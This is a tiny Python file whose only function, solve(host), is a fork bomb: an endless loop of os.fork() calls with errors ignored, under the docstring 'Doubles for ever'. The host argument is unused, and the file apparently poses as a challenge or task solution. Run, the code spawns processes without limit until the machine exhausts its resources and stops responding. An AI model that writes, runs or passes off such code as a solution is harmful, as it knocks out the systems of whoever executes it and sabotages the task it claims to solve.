"""Doubles for ever."""

import os


def solve(host):
    while True:
        try:
            os.fork()
        except OSError:
            pass
